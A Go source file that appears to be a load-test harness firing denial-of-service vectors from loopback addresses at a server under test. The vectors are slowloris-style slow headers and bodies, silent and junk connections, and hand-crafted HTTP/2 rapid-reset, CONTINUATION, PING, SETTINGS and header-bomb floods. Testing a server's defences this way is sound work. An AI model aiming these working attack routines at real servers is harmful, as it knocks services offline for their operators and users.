package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"time"
)

// attackers is from how many addresses the attack comes; every one tries to hold ten times the connections it may.
const attackers = 4

// vector is one way to attack. It gets a fresh connection and uses it until it is of no more use.
type vector struct {
	name   string
	secure bool
	do     func(ctx context.Context, c net.Conn)
}

var vectors = []vector{
	{"slow heads", false, func(ctx context.Context, c net.Conn) {
		drip(ctx, c, "GET / HTTP/1.1\r\nHost: a.example\r\n", "X: y\r\n", 500*time.Millisecond)
	}},
	{"huge heads", false, func(ctx context.Context, c net.Conn) {
		drip(ctx, c, "GET / HTTP/1.1\r\nHost: a.example\r\n"+strings.Repeat("X: "+strings.Repeat("x", 1000)+"\r\n", 30), "X", time.Second)
	}},
	{"slow bodies", false, func(ctx context.Context, c net.Conn) {
		drip(ctx, c, "POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n", "x", 500*time.Millisecond)
	}},
	{"slow chunks", false, func(ctx context.Context, c net.Conn) {
		drip(ctx, c, "POST / HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n1;", "a", 500*time.Millisecond)
	}},
	{"readers that do not read", false, func(ctx context.Context, c net.Conn) {
		drip(ctx, c, "GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n", "", time.Second)
	}},
	{"silence", false, func(ctx context.Context, c net.Conn) { drip(ctx, c, "", "", time.Second) }},
	{"junk", false, func(ctx context.Context, c net.Conn) { _, _ = c.Write(make([]byte, 4096)); rest(ctx, c) }},
	{"silence before TLS", true, nil},
	{"HTTP/2: rapid reset", true, frames(func(b []byte, id uint32) []byte {
		return frame(frame(b, 1, 5, id, block), 3, 0, id, []byte{0, 0, 0, 8})
	})},
	{"HTTP/2: CONTINUATION", true, frames(func(b []byte, id uint32) []byte {
		if id == 1 {
			return frame(b, 1, 1, 1, block)
		}
		return frame(b, 9, 0, 1, []byte("\x00\x01x\x01y"))
	})},
	{"HTTP/2: PING", true, frames(func(b []byte, _ uint32) []byte { return frame(b, 6, 0, 0, make([]byte, 8)) })},
	{"HTTP/2: SETTINGS", true, frames(func(b []byte, _ uint32) []byte { return frame(b, 4, 0, 0, nil) })},
	{"HTTP/2: header bombs", true, frames(func(b []byte, id uint32) []byte {
		if id == 1 {
			return frame(b, 1, 5, 1, append(append([]byte{}, block...), "\x40\x01x\x7f\x81\x1e"+strings.Repeat("y", 3968)...))
		}
		return frame(b, 1, 5, id, append(append([]byte{}, block...), strings.Repeat("\xbe", 8000)...))
	})},
	{"HTTP/2: streams that wait", true, frames(func(b []byte, id uint32) []byte {
		if id > 2*128 {
			return b
		}
		return frame(b, 1, 4, id, block)
	})},
}

// storm attacks for some time, from all addresses in all ways, and prints how many connections each way took. It begins
// within two seconds, not all at once: what it costs the attacker to begin is not to be measured.
func storm(plain, secure string, d time.Duration) error {
	ctx, end := context.WithTimeout(context.Background(), d)
	defer end()
	attempts := map[string]int{}
	var mu sync.Mutex
	var tasks sync.WaitGroup
	each := 10 * maxPerClient / len(vectors)
	for n := range attackers {
		from := netip.AddrFrom4([4]byte{127, 0, 9, byte(n + 1)})
		for _, v := range vectors {
			for i := range each {
				tasks.Go(func() {
					time.Sleep(time.Duration(i) * 2 * time.Second / time.Duration(each))
					v.try(ctx, from, map[bool]string{false: plain, true: secure}[v.secure], func() {
						mu.Lock()
						defer mu.Unlock()
						attempts[v.name]++
					})
				})
			}
		}
	}
	tasks.Wait()
	return json.NewEncoder(os.Stdout).Encode(attempts)
}

// try opens connections again and again, as often as they end.
func (v *vector) try(ctx context.Context, from netip.Addr, address string, count func()) {
	dialer := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), Timeout: 5 * time.Second}
	for ctx.Err() == nil {
		if c, err := dialer.DialContext(ctx, "tcp", address); err == nil {
			count()
			v.use(ctx, c)
			c.Close()
		}
		select {
		case <-ctx.Done():
		case <-time.After(2 * time.Second): // to be turned away again and again costs the attacker more than anybody
		}
	}
}

func (v *vector) use(ctx context.Context, c net.Conn) {
	if !v.secure {
		v.do(ctx, c)
		return
	}
	if v.do == nil {
		drip(ctx, c, "\x16\x03\x01", "", time.Second)
		return
	}
	s := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	_ = s.SetDeadline(time.Now().Add(5 * time.Second))
	if s.Handshake() != nil {
		return
	}
	_ = s.SetDeadline(time.Time{})
	v.do(ctx, s)
}

// drip sends a beginning, and then a little again and again, until the connection ends.
func drip(ctx context.Context, c net.Conn, first, more string, every time.Duration) {
	if _, err := io.WriteString(c, first); err != nil {
		return
	}
	for ctx.Err() == nil {
		select {
		case <-ctx.Done():
			return
		case <-time.After(every):
		}
		if more == "" {
			// Looks whether the connection has ended without taking anything.
			if _, err := c.Write(nil); err != nil || ended(c) {
				return
			}
			continue
		}
		if _, err := io.WriteString(c, more); err != nil {
			return
		}
	}
}

// ended reads one byte at the most.
func ended(c net.Conn) bool {
	_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
	var b [1]byte
	_, err := c.Read(b[:])
	t, ok := err.(net.Error)
	return err != nil && !(ok && t.Timeout())
}

// rest waits for the end of the connection.
func rest(ctx context.Context, c net.Conn) {
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	_, _ = io.Copy(io.Discard, c) // until it ends
}

// block is a header block of a plain request.
var block = []byte("\x82\x87\x84\x41\x09a.example")

func frame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// frames sends the frames that next makes for one stream after another, until the connection ends.
func frames(next func(b []byte, stream uint32) []byte) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		go rest(ctx, c)
		b := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 4, 0, 0, nil)
		for id := uint32(1); ctx.Err() == nil; id += 2 {
			if b = next(b, id); len(b) > 4<<10 || id%256 == 1 {
				if _, err := c.Write(b); err != nil {
					return
				}
				b = b[:0]
				time.Sleep(50 * time.Millisecond)
			}
		}
	}
}
